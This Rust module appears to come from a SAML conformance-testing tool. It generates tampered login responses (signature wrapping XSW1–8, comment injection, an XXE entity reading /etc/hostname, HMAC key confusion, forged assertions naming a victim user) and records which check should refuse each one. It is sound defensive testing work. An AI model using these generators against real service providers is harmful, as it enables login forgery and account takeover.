//! The tamper catalogue: one [`Attack`] per entry of saml-attacks.md, each turning a valid login into the document an attacker would post.
//!
//! Some attacks change the [`ResponseSpec`] and re-sign with the trusted key (class B: only the field check can
//! refuse them), some rewrite the signed XML without re-signing (class A), one signs with the attacker's key,
//! and replay posts the same document twice ([`Delivery::Twice`]).
//! Each carries the layer expected to refuse it ([`ExpectedOutcome`]).
//!
//! Signing modes: XSW1–2 re-sign the login with the Response signed only (they wrap the Response signature);
//! XSW3–8, `multiple-assertions-first-unsigned`, `digest-value-comment`, `signed-info-twice`,
//! `hmac-with-certificate`, `md5-digest` and `xslt-transform` with the Assertion signed only; every other attack keeps the spec's own mode.

use std::fmt;
use std::str::FromStr;

mod control;
mod dsig;
mod encrypted;
mod evil;
mod resign;
mod window;

use time::{Duration, OffsetDateTime};

use evil::{flip_case, forged_assertion, make_assertion_evil, make_spec_evil};

use crate::keys::SigningKeys;
use crate::sign::{sign_response, SignError};
use crate::spec::{Attribute, ResponseSpec};
use crate::style::{DigestAlgorithm, SignMode, SignatureAlgorithm};
use crate::xml::{self, text_escaped, Element, Node, XmlError, NS_ASSERTION, NS_DSIG, NS_PROTOCOL};

/// The NameID the attacker wants to be.
pub const EVIL_NAME_ID: &str = "mallory@evil.test";
/// The uid the attacker wants to be.
pub const EVIL_UID: &str = "evil-uid-0000";
/// Prefix of the forged elements' IDs. They are derived from the genuine IDs, so each forged
/// document is new to an SP's replay cache and a refusal can only come from the check under test.
pub(crate) const EVIL_ID_PREFIX: &str = "_evil";
const EVIL_URL: &str = "https://evil-sp.test/saml/acs";
const EVIL_AUDIENCE: &str = "https://evil-sp.test/saml/metadata";
const EVIL_ISSUER: &str = "https://evil-idp.test/";
const UNKNOWN_REQUEST_ID: &str = "_unknown_request_id";

macro_rules! attacks {
    ($( $(#[$doc:meta])* $variant:ident = $name:literal, )*) => {
        /// One entry of the tamper catalogue (saml-attacks.md). Names are stable, kebab-case, used on the command line.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
        pub enum Attack {
            $( $(#[$doc])* $variant, )*
        }

        impl Attack {
            const ALL: &'static [Attack] = &[ $( Attack::$variant, )* ];

            /// Every attack, in catalogue order.
            pub fn all() -> &'static [Attack] {
                Self::ALL
            }

            /// The stable command-line name.
            pub fn name(&self) -> &'static str {
                match self {
                    $( Attack::$variant => $name, )*
                }
            }
        }
    };
}

attacks! {
    /// saml-attacks.md A1 "strip all" (SimpleSAMLphp conformance `noSignature`): no Signature anywhere.
    Unsigned = "unsigned",
    /// saml-attacks.md A1 (`invalidSignature`): the NameID is changed after signing, not re-signed.
    ModifiedAfterSigning = "modified-after-signing",
    /// saml-attacks.md A2 "attacker self-signed key": evil identity signed with the attacker's key, its certificate in KeyInfo.
    UntrustedKey = "untrusted-key",
    /// saml-attacks.md A3 XSW1: the signed Response cloned into its own Signature; the outer one evil with a new ID.
    Xsw1 = "xsw1",
    /// saml-attacks.md A3 XSW2: the signed Response cloned just before its Signature (detached style); the outer one evil.
    Xsw2 = "xsw2",
    /// saml-attacks.md A3 XSW3: an evil Assertion copy with a new ID before the signed one.
    Xsw3 = "xsw3",
    /// saml-attacks.md A3 XSW4: an evil Assertion copy appended, with the signed Assertion moved inside it.
    Xsw4 = "xsw4",
    /// saml-attacks.md A3 XSW5: the in-place Assertion made evil with a new ID; an untouched unsigned copy appended.
    Xsw5 = "xsw5",
    /// saml-attacks.md A3 XSW6: as XSW5, the untouched copy inside the original Assertion's Signature.
    Xsw6 = "xsw6",
    /// saml-attacks.md A3 XSW7: an `Extensions` element before the Assertion holding an evil copy with the original ID.
    Xsw7 = "xsw7",
    /// saml-attacks.md A3 XSW8: the Assertion made evil; an untouched copy in a `ds:Object` inside its Signature, same ID.
    Xsw8 = "xsw8",
    /// saml-attacks.md A4 (CVE-2022-41912, CVE-2024-45409, CVE-2025-47949): an unsigned evil Assertion before the signed one.
    MultipleAssertionsFirstUnsigned = "multiple-assertions-first-unsigned",
    /// saml-attacks.md A5 (CVE-2017-11427…11430, CVE-2018-0489, CVE-2018-7340): `<!---->` inside the signed NameID.
    CommentInNameId = "comment-in-name-id",
    /// saml-attacks.md A5: `<!---->` inside the signed uid attribute value.
    CommentInUid = "comment-in-uid",
    /// saml-attacks.md A6/A7 (CVE-2025-25291/25292; "billion laughs"): a DOCTYPE with nested internal entities used in the NameID.
    DoctypeEntityExpansion = "doctype-entity-expansion",
    /// saml-attacks.md A7 XXE: a DOCTYPE declaring an external `SYSTEM` entity used in the NameID.
    ExternalEntity = "external-entity",
    /// saml-attacks.md A8: SHA-1 DigestMethod, re-signed with the trusted key.
    Sha1Digest = "sha1-digest",
    /// saml-attacks.md A8: rsa-sha1 SignatureMethod, re-signed with the trusted key.
    RsaSha1Signature = "rsa-sha1-signature",
    /// saml-attacks.md B NotOnOrAfter: every window ended an hour before now minus the skew.
    Expired = "expired",
    /// saml-attacks.md B NotBefore: the windows start an hour after now plus the skew.
    NotYetValid = "not-yet-valid",
    /// saml-attacks.md B "window boundary": the earliest NotOnOrAfter one second past the allowed skew.
    ExpiredPastSkew = "expired-past-skew",
    /// saml-attacks.md B "window boundary" control: the earliest NotOnOrAfter one second inside the skew. Must be accepted.
    ExpiredInsideSkew = "expired-inside-skew",
    /// saml-attacks.md B "window boundary": the latest NotBefore one second past the allowed skew.
    NotYetValidPastSkew = "not-yet-valid-past-skew",
    /// saml-attacks.md B "window boundary" control: the latest NotBefore one second inside the skew. Must be accepted.
    NotYetValidInsideSkew = "not-yet-valid-inside-skew",
    /// saml-attacks.md B Audience: another SP's entity id.
    WrongAudience = "wrong-audience",
    /// saml-attacks.md B Recipient: another ACS URL in SubjectConfirmationData.
    WrongRecipient = "wrong-recipient",
    /// saml-attacks.md B Destination: another ACS URL on the Response.
    WrongDestination = "wrong-destination",
    /// saml-attacks.md B Issuer: another IdP entity id on Response and Assertion.
    WrongIssuer = "wrong-issuer",
    /// saml-attacks.md B Status: `…:status:Responder`.
    StatusNotSuccess = "status-not-success",
    /// saml-attacks.md B "InResponseTo unknown": a request id the SP never issued (needs an SP-initiated login).
    InResponseToUnknown = "in-response-to-unknown",
    /// saml-attacks.md B "InResponseTo missing": none on an SP-initiated flow (needs an SP-initiated login).
    InResponseToMissing = "in-response-to-missing",
    /// saml-attacks.md B Replay: the same valid document posted twice; the SP's replay cache must refuse the second.
    Replay = "replay",
    /// saml-attacks.md C "userUID missing": the uid attribute left out; the SP's identity rules must refuse.
    UidMissing = "uid-missing",
    /// saml-attacks.md C "userUID missing or empty": one empty value.
    UidEmpty = "uid-empty",
    /// saml-attacks.md C: the uid attribute with two values, the evil one first.
    UidTwoValues = "uid-two-values",
    /// saml-attacks.md C: two uid attributes, the evil one first.
    UidTwoAttributes = "uid-two-attributes",
    /// saml-attacks.md C "case variant": the attribute named in lower case (`useruid`), so a case-sensitive SP finds none.
    UidNameCaseChanged = "uid-name-case-changed",
    /// Issue 16 "each validity window on its own": only the bearer SubjectConfirmationData's
    /// NotOnOrAfter has passed (10 minutes past the skew); Conditions are open, as Entra's 70 minutes are.
    SubjectConfirmationExpired = "subject-confirmation-expired",
    /// Issue 16: only the AuthnStatement's SessionNotOnOrAfter has passed (10 minutes past the skew).
    SessionExpired = "session-expired",
    /// Issue 16: the only SubjectConfirmation is holder-of-key, not bearer (SAML Profiles §4.1.4.2).
    HolderOfKeyConfirmation = "holder-of-key-confirmation",
    /// Issue 16 (xml-crypto CVE-2025-29775): the assertion made evil, the forged digest in a comment
    /// before the genuine DigestValue text, so the signature over SignedInfo still verifies.
    DigestValueComment = "digest-value-comment",
    /// Issue 16 (xml-crypto CVE-2025-29774): the assertion made evil and a second SignedInfo carrying its digest.
    SignedInfoTwice = "signed-info-twice",
    /// Issue 16: evil identity signed with the attacker's key, KeyInfo holding a certificate with the
    /// trusted one's subject, issuer and serial around the attacker's key.
    ClonedCertificate = "cloned-certificate",
    /// Issue 16 (xml-crypto key confusion): evil identity, SignatureMethod HMAC-SHA256 keyed with the
    /// trusted certificate's PEM, which anyone holding the IdP metadata can compute.
    HmacWithCertificate = "hmac-with-certificate",
    /// Issue 16: MD5 DigestMethod, re-signed with the trusted key.
    Md5Digest = "md5-digest",
    /// Issue 16: an (identity) XSLT transform in the Reference, re-signed with the trusted key.
    XsltTransform = "xslt-transform",
    /// Issue 16 control (grafana#132763): the groups claim with 1000 more values, re-signed. Must be accepted.
    ManyGroups = "many-groups",
    /// saml-attacks.md C "case or whitespace variant of the userUID": the signer's uid value with
    /// the case of each letter flipped, re-signed; an SP that compares without case can match another user.
    UidValueCaseChanged = "uid-value-case-changed",
    /// saml-attacks.md C: the signer's uid value with a space before and after it, re-signed.
    UidValueWhitespace = "uid-value-whitespace",
    /// Issue 16 (pysaml2#55): the forged identity unsigned, encrypted for the SP, in an unsigned Response.
    EncryptedUnsigned = "encrypted-unsigned",
    /// Issue 16 (saml-attacks.md A4): the genuine signed assertion plain, the forged one encrypted before it.
    EncryptedPlusPlain = "encrypted-plus-plain",
    /// Issue 16: a genuine login encrypted for another key (the attacker's certificate).
    EncryptedForOtherKey = "encrypted-for-other-key",
    /// Issue 16 control (crewjam/saml#270): a signed Response around an unsigned encrypted assertion. Must be accepted.
    EncryptedResponseSigned = "encrypted-response-signed",
}

/// The SP check that refuses an attack the verifier lets through.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SpCheck {
    /// The caller's replay cache, keyed by [`crate::VerifiedAssertion::assertion_id`].
    ReplayCache,
    /// The caller's identity rules: exactly one non-empty uid, equal (case-sensitively) to the provisioned externalId.
    IdentityLink,
}

/// What should happen when the tampered document is posted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ExpectedOutcome {
    /// [`crate::Verifier`] alone refuses it.
    VerifierRejects,
    /// The verifier accepts it (it is validly signed and fresh); the named SP check must refuse it.
    SpRejects(SpCheck),
    /// A control: a correct SP accepts it.
    Accepted,
}

/// How the document is to be posted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Delivery {
    Once,
    /// Post the same document twice; the first is accepted, the second must be refused.
    Twice,
}

/// What an attack needs besides the login.
#[derive(Debug, Clone, Copy)]
pub struct AttackContext<'a> {
    /// The IdP's real key.
    pub trusted: &'a SigningKeys,
    /// A key the SP does not pin.
    pub attacker: &'a SigningKeys,
    /// The attribute the SP reads the uid from (Grafana: `userUID`).
    pub uid_attribute: &'a str,
    /// The SP's clock skew, for the boundary attacks.
    pub clock_skew: Duration,
    /// The SP's "now" when it will verify, for the time attacks.
    pub now: OffsetDateTime,
    /// Whom the forged parts claim to be; `None`: [`EVIL_NAME_ID`] and [`EVIL_UID`], an
    /// identity the SP does not know. Naming a provisioned user turns an SP that reads the
    /// forged part into a visible takeover of that user, not just a stray sign-up.
    pub victim: Option<Victim<'a>>,
    /// The SP's encryption certificate and content cipher, for the attacks on encrypted assertions
    /// ([`Attack::needs_encryption`]); the others ignore it.
    pub encrypt_for: Option<&'a crate::encrypt::Encryption>,
}

/// The identity an attack's forged parts claim (see [`AttackContext::victim`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Victim<'a> {
    /// The NameID the forged assertion carries.
    pub name_id: &'a str,
    /// The value of the uid attribute (and Entra's objectidentifier) it carries.
    pub uid: &'a str,
}

impl<'a> AttackContext<'a> {
    /// The identity the forged parts claim.
    pub fn forged_identity(&self) -> Victim<'a> {
        self.victim.unwrap_or(Victim {
            name_id: EVIL_NAME_ID,
            uid: EVIL_UID,
        })
    }
}

/// A tampered document and what should become of it.
#[derive(Debug, Clone)]
pub struct Tampered {
    pub attack: Attack,
    pub xml: String,
    pub delivery: Delivery,
    pub expected: ExpectedOutcome,
    /// The spec the document was made from, after the attack's changes (ids, times, values).
    pub spec: ResponseSpec,
}

/// Why an attack could not be produced.
#[derive(Debug, thiserror::Error)]
pub enum AttackError {
    #[error("attack {attack}: needs an SP-initiated login (a spec with InResponseTo)")]
    NeedsSpInitiated { attack: &'static str },
    #[error(
        "attack {attack}: needs the sp's encryption certificate (a profile's `[saml] encrypt_for`, `saml issue --encrypt-for`)"
    )]
    NeedsEncryption { attack: &'static str },
    #[error("attack {attack}: encrypting")]
    Encrypt {
        attack: &'static str,
        #[source]
        source: Box<crate::encrypt::EncryptError>,
    },
    #[error("attack {attack}: the spec has no {what} to move")]
    NoValidityWindow {
        attack: &'static str,
        what: &'static str,
    },
    #[error("attack {attack}: the spec has no `{name}` attribute")]
    NoUidAttribute { attack: &'static str, name: String },
    #[error("attack {attack}: signing")]
    Sign {
        attack: &'static str,
        #[source]
        source: SignError,
    },
    #[error("attack {attack}: rewriting the signed xml")]
    Rewrite {
        attack: &'static str,
        #[source]
        source: XmlError,
    },
    #[error("attack {attack}: {detail}")]
    Shape {
        attack: &'static str,
        detail: String,
    },
}

/// An unknown attack name.
#[derive(Debug, thiserror::Error)]
#[error("unknown attack `{0}` (see `Attack::all()` for the catalogue)")]
pub struct UnknownAttack(pub String);

impl FromStr for Attack {
    type Err = UnknownAttack;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Attack::all()
            .iter()
            .copied()
            .find(|a| a.name() == s)
            .ok_or_else(|| UnknownAttack(s.to_owned()))
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl Attack {
    /// Which layer must refuse it, or [`ExpectedOutcome::Accepted`] for the two boundary controls.
    pub fn expected(&self) -> ExpectedOutcome {
        use Attack::*;
        match self {
            ExpiredInsideSkew | NotYetValidInsideSkew | ManyGroups | EncryptedResponseSigned => {
                ExpectedOutcome::Accepted
            }
            Replay => ExpectedOutcome::SpRejects(SpCheck::ReplayCache),
            UidMissing | UidEmpty | UidTwoValues | UidTwoAttributes | UidNameCaseChanged
            | UidValueCaseChanged | UidValueWhitespace => {
                ExpectedOutcome::SpRejects(SpCheck::IdentityLink)
            }
            _ => ExpectedOutcome::VerifierRejects,
        }
    }

    /// Whether the attack needs a spec with `InResponseTo` (an SP-initiated login).
    pub fn needs_sp_initiated(&self) -> bool {
        matches!(
            self,
            Attack::InResponseToUnknown | Attack::InResponseToMissing
        )
    }

    /// Whether the attack needs [`AttackContext::encrypt_for`] (an SP that decrypts).
    pub fn needs_encryption(&self) -> bool {
        use Attack::*;
        matches!(
            self,
            EncryptedUnsigned | EncryptedPlusPlain | EncryptedForOtherKey | EncryptedResponseSigned
        )
    }

    /// Produces the tampered document from a valid login `base` (as [`ResponseSpec::new`] made it).
    pub fn apply(
        &self,
        base: &ResponseSpec,
        ctx: &AttackContext<'_>,
    ) -> Result<Tampered, AttackError> {
        use Attack::*;
        let name = self.name();
        let mut spec = base.clone();
        let sign = |spec: &ResponseSpec, keys: &SigningKeys| {
            sign_response(spec, keys).map_err(|source| AttackError::Sign {
                attack: name,
                source,
            })
        };
        let rewrite = |e: XmlError| AttackError::Rewrite {
            attack: name,
            source: e,
        };
        let uid = ctx.uid_attribute;
        let forged = ctx.forged_identity();
        let evil_response_id = format!("{EVIL_ID_PREFIX}{}", base.response_id);
        let evil_assertion_id = format!("{EVIL_ID_PREFIX}{}", base.assertion_id);
        let xml = match self {
            SubjectConfirmationExpired => {
                window::subject_confirmation_expired(&mut spec, ctx, name)?;
                sign(&spec, ctx.trusted)?
            }
            SessionExpired => {
                window::session_expired(&mut spec, ctx);
                sign(&spec, ctx.trusted)?
            }
            HolderOfKeyConfirmation => {
                window::holder_of_key(&mut spec);
                sign(&spec, ctx.trusted)?
            }
            DigestValueComment => {
                dsig::forged_digest(&mut spec, ctx, name, dsig::Smuggle::DigestValueComment)?
            }
            SignedInfoTwice => {
                dsig::forged_digest(&mut spec, ctx, name, dsig::Smuggle::SecondSignedInfo)?
            }
            ClonedCertificate => dsig::cloned_certificate(&mut spec, ctx, name)?,
            HmacWithCertificate => {
                resign::remade(&mut spec, ctx, name, resign::Remake::HmacWithCertificate)?
            }
            Md5Digest => resign::remade(&mut spec, ctx, name, resign::Remake::Md5Digest)?,
            XsltTransform => resign::remade(&mut spec, ctx, name, resign::Remake::XsltTransform)?,
            ManyGroups => {
                control::many_groups(&mut spec);
                sign(&spec, ctx.trusted)?
            }
            EncryptedUnsigned
            | EncryptedPlusPlain
            | EncryptedForOtherKey
            | EncryptedResponseSigned => {
                let layout = match self {
                    EncryptedUnsigned => encrypted::Layout::UnsignedInside,
                    EncryptedPlusPlain => encrypted::Layout::PlusPlain,
                    EncryptedForOtherKey => encrypted::Layout::OtherKey,
                    _ => encrypted::Layout::ResponseSignedOnly,
                };
                encrypted::encrypted(&mut spec, ctx, name, layout)?
            }
            Unsigned => spec.to_unsigned_xml(),
            ModifiedAfterSigning => {
                let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
                let assertion = assertion_mut(&mut root, name)?;
                set_name_id(assertion, forged.name_id);
                root.to_xml()
            }
            UntrustedKey => {
                make_spec_evil(&mut spec, uid, forged);
                sign(&spec, ctx.attacker)?
            }
            Xsw1 | Xsw2 => {
                spec.sign = SignMode::Response;
                let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
                let mut clone = root.clone();
                clone.remove_children(NS_DSIG, "Signature");
                root.set_attr("ID", &evil_response_id);
                make_assertion_evil(assertion_mut(&mut root, name)?, uid, forged);
                let sig_at = root
                    .child_index(NS_DSIG, "Signature")
                    .ok_or_else(|| shape(name, "no response signature"))?;
                if *self == Xsw1 {
                    if let Node::Element(sig) = &mut root.children[sig_at] {
                        sig.children.push(Node::Element(clone));
                    }
                } else {
                    root.children.insert(sig_at, Node::Element(clone));
                }
                root.to_xml()
            }
            Xsw3 | Xsw4 | Xsw5 | Xsw6 | Xsw7 | Xsw8 => {
                spec.sign = SignMode::Assertion;
                let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
                let at = root
                    .child_index(NS_ASSERTION, "Assertion")
                    .ok_or_else(|| shape(name, "no assertion"))?;
                let Node::Element(original) = root.children[at].clone() else {
                    return Err(shape(name, "no assertion"));
                };
                let mut copy = original.clone();
                copy.remove_children(NS_DSIG, "Signature");
                match self {
                    Xsw3 => {
                        copy.set_attr("ID", &evil_assertion_id);
                        make_assertion_evil(&mut copy, uid, forged);
                        root.children.insert(at, Node::Element(copy));
                    }
                    Xsw4 => {
                        copy.set_attr("ID", &evil_assertion_id);
                        make_assertion_evil(&mut copy, uid, forged);
                        copy.children.push(Node::Element(original));
                        root.children.remove(at);
                        root.children.push(Node::Element(copy));
                    }
                    Xsw5 | Xsw6 => {
                        let mut evil = original;
                        evil.set_attr("ID", &evil_assertion_id);
                        make_assertion_evil(&mut evil, uid, forged);
                        if *self == Xsw5 {
                            root.children[at] = Node::Element(evil);
                            root.children.push(Node::Element(copy));
                        } else {
                            signature_mut(&mut evil, name)?
                                .children
                                .push(Node::Element(copy));
                            root.children[at] = Node::Element(evil);
                        }
                    }
                    Xsw7 => {
                        make_assertion_evil(&mut copy, uid, forged);
                        let prefix = root.prefix().map(|p| format!("{p}:")).unwrap_or_default();
                        let mut extensions =
                            Element::new(format!("{prefix}Extensions"), Some(NS_PROTOCOL));
                        extensions.children.push(Node::Element(copy));
                        root.children.insert(at, Node::Element(extensions));
                    }
                    _ => {
                        // Xsw8
                        let mut evil = original;
                        make_assertion_evil(&mut evil, uid, forged);
                        let sig = signature_mut(&mut evil, name)?;
                        let prefix = sig.prefix().map(|p| format!("{p}:")).unwrap_or_default();
                        let mut object = Element::new(format!("{prefix}Object"), Some(NS_DSIG));
                        object.children.push(Node::Element(copy));
                        sig.children.push(Node::Element(object));
                        root.children[at] = Node::Element(evil);
                    }
                }
                root.to_xml()
            }
            MultipleAssertionsFirstUnsigned => {
                spec.sign = SignMode::Assertion;
                let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
                let (evil, _) = forged_assertion(&spec, ctx, name)?;
                let at = root
                    .child_index(NS_ASSERTION, "Assertion")
                    .ok_or_else(|| shape(name, "no assertion"))?;
                root.children.insert(at, Node::Element(evil));
                root.to_xml()
            }
            CommentInNameId | CommentInUid => {
                let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
                let assertion = assertion_mut(&mut root, name)?;
                let target = if *self == CommentInNameId {
                    name_id_mut(assertion)
                } else {
                    attribute_values_mut(assertion, uid).into_iter().next()
                };
                let target = target.ok_or_else(|| shape(name, "no value to inject into"))?;
                inject_comment(target);
                root.to_xml()
            }
            DoctypeEntityExpansion | ExternalEntity => {
                let signed = sign(&spec, ctx.trusted)?;
                let root_name = xml::parse(&signed).map_err(rewrite)?.qname;
                let (decls, reference) = if *self == DoctypeEntityExpansion {
                    // Four levels of ten: 30 000 bytes if expanded; enough to show expansion, too small to hurt.
                    let mut d = String::from("<!ENTITY l0 \"lol\">");
                    for i in 1..=4 {
                        d.push_str(&format!(
                            "<!ENTITY l{i} \"{}\">",
                            format!("&l{};", i - 1).repeat(10)
                        ));
                    }
                    (d, "&l4;")
                } else {
                    (
                        "<!ENTITY xxe SYSTEM \"file:///etc/hostname\">".to_owned(),
                        "&xxe;",
                    )
                };
                let needle = format!(">{}</", text_escaped(&spec.name_id));
                if !signed.contains(&needle) {
                    return Err(shape(name, "NameID text not found"));
                }
                let body = signed.replacen(&needle, &format!(">{reference}</"), 1);
                format!("<!DOCTYPE {root_name} [{decls}]>{body}")
            }
            Sha1Digest => {
                spec.digest_algorithm = DigestAlgorithm::Sha1;
                sign(&spec, ctx.trusted)?
            }
            RsaSha1Signature => {
                spec.signature_algorithm = SignatureAlgorithm::RsaSha1;
                sign(&spec, ctx.trusted)?
            }
            Expired
            | ExpiredPastSkew
            | ExpiredInsideSkew
            | NotYetValid
            | NotYetValidPastSkew
            | NotYetValidInsideSkew => {
                let expiring = matches!(self, Expired | ExpiredPastSkew | ExpiredInsideSkew);
                let (edge, what) = if expiring {
                    (spec.earliest_expiry(), "NotOnOrAfter")
                } else {
                    (spec.latest_not_before(), "NotBefore")
                };
                let edge = edge.ok_or(AttackError::NoValidityWindow { attack: name, what })?;
                // How far past the skew-widened edge the SP's "now" falls (negative: inside it).
                let past = match self {
                    Expired | NotYetValid => Duration::HOUR,
                    ExpiredInsideSkew | NotYetValidInsideSkew => -Duration::SECOND,
                    _ => Duration::SECOND,
                };
                let target = if expiring {
                    ctx.now - ctx.clock_skew - past
                } else {
                    ctx.now + ctx.clock_skew + past
                };
                spec.shift_times(target - edge);
                sign(&spec, ctx.trusted)?
            }
            WrongAudience => {
                if let Some(c) = &mut spec.conditions {
                    c.audiences = vec![EVIL_AUDIENCE.to_owned()];
                }
                sign(&spec, ctx.trusted)?
            }
            WrongRecipient => {
                spec.subject_confirmation.recipient = Some(EVIL_URL.to_owned());
                sign(&spec, ctx.trusted)?
            }
            WrongDestination => {
                spec.destination = Some(EVIL_URL.to_owned());
                sign(&spec, ctx.trusted)?
            }
            WrongIssuer => {
                spec.response_issuer = Some(EVIL_ISSUER.to_owned());
                spec.assertion_issuer = EVIL_ISSUER.to_owned();
                sign(&spec, ctx.trusted)?
            }
            StatusNotSuccess => {
                spec.status_code = "urn:oasis:names:tc:SAML:2.0:status:Responder".to_owned();
                sign(&spec, ctx.trusted)?
            }
            InResponseToUnknown | InResponseToMissing => {
                if spec.subject_confirmation.in_response_to.is_none() {
                    return Err(AttackError::NeedsSpInitiated { attack: name });
                }
                let value = (*self == InResponseToUnknown).then(|| UNKNOWN_REQUEST_ID.to_owned());
                spec.in_response_to = value.clone();
                spec.subject_confirmation.in_response_to = value;
                sign(&spec, ctx.trusted)?
            }
            Replay => sign(&spec, ctx.trusted)?,
            UidMissing | UidEmpty | UidTwoValues | UidTwoAttributes | UidNameCaseChanged
            | UidValueCaseChanged | UidValueWhitespace => {
                let no_uid = || AttackError::NoUidAttribute {
                    attack: name,
                    name: uid.to_owned(),
                };
                let at = spec
                    .attributes
                    .iter()
                    .position(|a| a.name == uid)
                    .ok_or_else(no_uid)?;
                match self {
                    UidMissing => {
                        spec.attributes.retain(|a| a.name != uid);
                    }
                    UidEmpty => spec.attributes[at].values = vec![String::new()],
                    UidTwoValues => spec.attributes[at].values.insert(0, forged.uid.to_owned()),
                    UidTwoAttributes => {
                        let evil = Attribute {
                            values: vec![forged.uid.to_owned()],
                            ..spec.attributes[at].clone()
                        };
                        spec.attributes.insert(at, evil);
                    }
                    UidValueCaseChanged => {
                        for v in spec.attributes[at].values.iter_mut() {
                            let flipped = flip_case(v);
                            if flipped == *v {
                                return Err(shape(name, "the uid value has no letter to change"));
                            }
                            *v = flipped;
                        }
                    }
                    UidValueWhitespace => {
                        for v in spec.attributes[at].values.iter_mut() {
                            *v = format!(" {v} ");
                        }
                    }
                    _ => spec.attributes[at].name = uid.to_lowercase(),
                }
                sign(&spec, ctx.trusted)?
            }
        };
        Ok(Tampered {
            attack: *self,
            xml,
            delivery: if *self == Replay {
                Delivery::Twice
            } else {
                Delivery::Once
            },
            expected: self.expected(),
            spec,
        })
    }
}

fn shape(attack: &'static str, detail: &str) -> AttackError {
    AttackError::Shape {
        attack,
        detail: detail.to_owned(),
    }
}

fn assertion_mut<'a>(
    root: &'a mut Element,
    attack: &'static str,
) -> Result<&'a mut Element, AttackError> {
    root.child_mut(NS_ASSERTION, "Assertion")
        .ok_or_else(|| shape(attack, "no assertion"))
}

fn signature_mut<'a>(
    el: &'a mut Element,
    attack: &'static str,
) -> Result<&'a mut Element, AttackError> {
    el.child_mut(NS_DSIG, "Signature")
        .ok_or_else(|| shape(attack, "no assertion signature"))
}

fn name_id_mut(assertion: &mut Element) -> Option<&mut Element> {
    assertion
        .child_mut(NS_ASSERTION, "Subject")?
        .child_mut(NS_ASSERTION, "NameID")
}

fn set_name_id(assertion: &mut Element, value: &str) {
    if let Some(n) = name_id_mut(assertion) {
        n.set_text(value);
    }
}

fn attribute_values_mut<'a>(assertion: &'a mut Element, name: &str) -> Vec<&'a mut Element> {
    let mut out = Vec::new();
    for statement in assertion.elements_mut() {
        if !statement.is(NS_ASSERTION, "AttributeStatement") {
            continue;
        }
        for attr in statement.elements_mut() {
            if attr.is(NS_ASSERTION, "Attribute") && attr.attr("Name") == Some(name) {
                out.extend(
                    attr.elements_mut()
                        .filter(|v| v.is(NS_ASSERTION, "AttributeValue")),
                );
            }
        }
    }
    out
}

/// saml-attacks.md A5: `a@x.com<!---->.evil` — the comment goes before the last `.` (or mid-value);
/// exclusive c14n drops it, so the signature still verifies.
fn inject_comment(el: &mut Element) {
    let text = el.text();
    let cut = text.rfind('.').filter(|&i| i > 0).unwrap_or_else(|| {
        text.char_indices()
            .nth(text.chars().count() / 2)
            .map_or(0, |(i, _)| i)
    });
    let (a, b) = text.split_at(cut);
    el.children = vec![
        Node::Text(a.to_owned()),
        Node::Comment(String::new()),
        Node::Text(b.to_owned()),
    ];
}
